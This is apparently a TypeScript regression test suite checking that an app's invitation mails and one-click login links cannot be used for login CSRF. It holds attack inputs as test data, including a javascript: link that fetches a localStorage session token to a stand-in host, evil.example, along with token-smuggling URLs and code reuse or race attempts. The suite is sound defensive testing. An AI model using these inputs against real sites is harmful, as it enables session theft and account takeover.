import { asc, eq, sql } from 'drizzle-orm';
import { SITE_ORIGIN, testDatabaseKind } from '@rapport/api/testing/build-test-app';
import { companyWithAdmin } from '@rapport/api/testing/company';
import { createContact, createUser, tokenFor } from '@rapport/api/testing/fixtures';
import { api } from '@rapport/api/testing/http';
import type { App } from '../../src/app';
import { companyContacts, mailOutbox, userCodes } from '../../src/db/schema';
import { openMail } from '../../src/mail/outbox';
import { LOGIN_CODE_TTL_MINUTES } from '../../src/services/accounts/one-click';
import { attackSuite } from './attack-suite';

/**
 * Login CSRF through invitations. Before the fix, POST /send/invite mailed
 * any link on the site's origin, so a user could mail someone a one-click link carrying their
 * own session token: the invitee was signed into the sender's account and answered there. And a
 * one-click link's `token` was a session token. Each attack below is tried as an attacker
 * would; it succeeds when a session token, a login code or a parameter of the attacker's choice
 * reaches the victim's mail, or a sign-in is granted that should not be.
 */
describe(`login CSRF through invitations and one-click links (${testDatabaseKind})`, () => {
  let app: App;
  let http: ReturnType<typeof api>;
  const { attacks, address, tryAttack } = attackSuite('invite-csrf', { ready: (world) => ({ app, http } = world) });
  const victimAddress = () => address('victim');
  /** A signed-in user whose address is proven: an unproven one sends no invitation at all. */
  const signedIn = async () => {
    const user = await createUser(app.database.db, { emailVerified: true });
    return { ...user, token: await tokenFor(app, user.id) };
  };
  /** The rows of the mails queued to `to`, as the table keeps them. */
  const storedMails = (to: string) =>
    app.database.db.select().from(mailOutbox).where(sql`lower(${mailOutbox.toAddress}) = lower(${to})`).orderBy(asc(mailOutbox.id));
  /** The mails queued to `to` as they will reach that mailbox: their sealed secrets put in. */
  const mailsTo = async (to: string) => (await storedMails(to)).map((row) => openMail(app.mailSecrets, { ...row, to: row.toAddress }));
  /** Everything a mail to `to` says, subject, text and HTML (unescaped enough to find a parameter). */
  const mailText = async (to: string): Promise<string> =>
    (await mailsTo(to)).map((m) => [m.subject, m.text, (m.html ?? '').replace(/&amp;/g, '&')].join('\n')).join('\n');
  /** The links of the mails to `to`. */
  const mailedLinks = async (to: string): Promise<URL[]> =>
    [...(await mailText(to)).matchAll(/https?:\/\/[^\s"<>]+|javascript:[^\s"<>]+/g)].map((m) => new URL(m[0]));
  /** One attack: it must fail (each test says which one worked; the last checks the tally). */
  const exchange = (body: Record<string, unknown>) => http.post('/auth/user/login_link/', body);

  describe('POST /send/invite: the mail carries only the sender\'s own referral link', () => {
    const oneClick = (me: { token: string; email: string; referral: string }) =>
      `${SITE_ORIGIN}/?token=${me.token}&email=${encodeURIComponent(me.email)}&referral=${me.referral}`;

    /** Sends the invitation; the attack worked when the mail went out with anything but `?ref=<own referral>`. */
    const inviteWith = async (me: Awaited<ReturnType<typeof signedIn>>, link: string, secrets: string[] = []): Promise<boolean> => {
      const to = victimAddress();
      await http.post('/send/invite', { recepter: to, name: 'Victim', referral_link: link }, { token: me.token });
      const text = await mailText(to);
      if (text === '') return false;
      if (secrets.some((secret) => text.includes(secret))) return true;
      return (await mailedLinks(to)).some(
        (url) => url.origin !== SITE_ORIGIN || url.pathname !== '/' || url.hash !== '' || url.search !== `?ref=${me.referral}`,
      );
    };

    it.each([
      ["a one-click link with the sender's own session token", (me: Me) => oneClick(me)],
      ["a one-click link with the sender's token, on their referral link", (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}&token=${me.token}&email=${encodeURIComponent(me.email)}&referral=${me.referral}`],
      ['the session token in the fragment', (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}#token=${me.token}`],
      ['the session token on another page', (me: Me) => `${SITE_ORIGIN}/results?ref=${me.referral}&token=${me.token}`],
      ['the session token smuggled in the ref value', (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}%26token%3D${me.token}`],
      ['an encoded parameter name', (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}&%74oken=${me.token}&email=${encodeURIComponent(me.email)}&referral=${me.referral}`],
      ['a reset-password page', (me: Me) => `${SITE_ORIGIN}/reset-password?token=${me.token}`],
      ['a login parameter (opens the sign-in)', (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}&login=1`],
      ['a code parameter (a social sign-in callback)', () => `${SITE_ORIGIN}/home?code=attacker-code&state=x`],
      ["a mission of the attacker's choice", (me: Me) => `${SITE_ORIGIN}/?ref=${me.referral}&mission=M1`],
      ['another path', (me: Me) => `${SITE_ORIGIN}/contacts?ref=${me.referral}`],
      ['user info in the link (refused before the fix too)', (me: Me) => SITE_ORIGIN.replace('http://', `http://${me.token}@`) + `/?ref=${me.referral}`],
      ['an external host (refused before the fix too)', (me: Me) => `https://evil.example/?ref=${me.referral}`],
      ['a look-alike host (refused before the fix too)', (me: Me) => `${SITE_ORIGIN}.evil.example/?ref=${me.referral}`],
      ['a javascript: link (refused before the fix too)', () => 'javascript:fetch(`//evil.example/?${localStorage.token}`)'],
      ['a data: link (refused before the fix too)', () => 'data:text/html,<script>alert(1)</script>'],
    ])('refuses %s', async (name, link) => {
      const me = await signedIn();
      await tryAttack(`invite: ${name}`, () => inviteWith(me, link(me), [me.token]));
    });

    it("refuses another user's referral (the invitee would become the other user's contact)", async () => {
      const me = await signedIn();
      const other = await signedIn();
      await tryAttack("invite: another user's referral", () => inviteWith(me, `${SITE_ORIGIN}/?ref=${other.referral}`, [other.referral]));
    });

    it('mails the link the server builds, never a session token, for the accepted link', async () => {
      const me = await signedIn();
      const to = victimAddress();
      const res = await http.post('/send/invite', { recepter: to, name: 'Friend', referral_link: `${SITE_ORIGIN}/?ref=${me.referral}` }, { token: me.token });
      expect(res.statusCode).toBe(200);
      const links = await mailedLinks(to);
      expect(links.length).toBeGreaterThan(0);
      expect(new Set(links.map((url) => url.href))).toEqual(new Set([`${SITE_ORIGIN}/?ref=${me.referral}`]));
      expect(await mailText(to)).not.toContain(me.token);
    });
  });

  describe('one-click links: a single-use code, never a session token', () => {
    const codeFor = (user: { id: number; email: string }) =>
      app.userCodesRepository.issueCode(app.database.db, user.id, 'login', user.email, LOGIN_CODE_TTL_MINUTES);

    it("refuses the victim's (or anyone's) session token as a one-click code", async () => {
      const victim = await signedIn();
      await tryAttack('one-click: a session token as the code', async () => {
        const res = await exchange({ email: victim.email, code: victim.token, referral: victim.referral });
        return res.statusCode === 200;
      });
    });

    it('refuses a code used once already (a forwarded or logged link)', async () => {
      const victim = await signedIn();
      const code = await codeFor(victim);
      expect((await exchange({ email: victim.email, code, referral: victim.referral })).statusCode).toBe(200);
      await tryAttack('one-click: reuse a spent code', async () => (await exchange({ email: victim.email, code, referral: victim.referral })).statusCode === 200);
    });

    it('refuses a code past its hours', async () => {
      const victim = await signedIn();
      const code = await codeFor(victim);
      await app.database.db.update(userCodes).set({ expiresAt: sql`now() - interval '1 second'` }).where(eq(userCodes.userId, victim.id));
      await tryAttack('one-click: an expired code', async () => (await exchange({ email: victim.email, code })).statusCode === 200);
    });

    it("refuses the attacker's own code presented with the victim's e-mail", async () => {
      const attacker = await signedIn();
      const victim = await signedIn();
      const code = await codeFor(attacker);
      await tryAttack("one-click: own code, victim's e-mail", async () => {
        const res = await exchange({ email: victim.email, code, referral: victim.referral });
        return res.statusCode === 200;
      });
    });

    it('refuses the same code raced twice at once: one session at most', async () => {
      const victim = await signedIn();
      const code = await codeFor(victim);
      const answers = await Promise.all([1, 2, 3].map(() => exchange({ email: victim.email, code })));
      await tryAttack('one-click: one code raced three times', async () => answers.filter((res) => res.statusCode === 200).length > 1);
    });
  });

  describe("a company's one-click invitations", () => {
    it("does not mail an account's code to the address a company admin put on its contact", async () => {
      const { companyId, admin } = await companyWithAdmin(app);
      const victim = await signedIn();
      const contact = await createContact(app.database.db, companyId, { email: victim.email, userId: victim.id });
      const attackerMailbox = victimAddress();
      await http.put(`/company/company_contact/update/${contact.id}/`, { email: attackerMailbox }, { token: admin.token });
      await tryAttack("company: re-point a linked contact's e-mail, then invite", async () => {
        await http.post('/company/invite_contact/', { contact_referral: contact.referral }, { token: admin.token });
        const [row] = await app.database.db.select({ email: companyContacts.email }).from(companyContacts).where(eq(companyContacts.id, contact.id));
        if (row.email !== attackerMailbox) throw new Error('the contact kept its e-mail: the attack was not set up');
        return (await mailedLinks(attackerMailbox)).some((url) => url.searchParams.has('token'));
      });
    });

    it("does not show the admin the code mailed to a contact with an account", async () => {
      const { companyId, admin } = await companyWithAdmin(app);
      const victim = await signedIn();
      const contact = await createContact(app.database.db, companyId, { email: victim.email });
      await tryAttack('company: read the mailed code from the answers', async () => {
        const invited = await http.post('/company/invite_contact/', { contact_referral: contact.referral }, { token: admin.token });
        const listed = await http.get('/company/company_contact/', { token: admin.token });
        const code = (await mailedLinks(victim.email)).map((url) => url.searchParams.get('token')).find(Boolean);
        if (!code) throw new Error('no one-click link was mailed: the attack was not set up');
        return invited.body.includes(code) || listed.body.includes(code);
      });
      await tryAttack('company: read the one-click code from the outbox table', async () => {
        const code = (await mailedLinks(victim.email)).map((url) => url.searchParams.get('token')).find(Boolean);
        if (!code) throw new Error('no one-click link was mailed: the attack was not set up');
        return JSON.stringify(await storedMails(victim.email)).includes(code);
      });
    });
  });

  it('leaves every attack above without success', () => {
    expect(attacks.tried).toBeGreaterThan(20);
    expect(attacks.succeeded).toEqual([]);
  });
});

type Me = { token: string; email: string; referral: string };
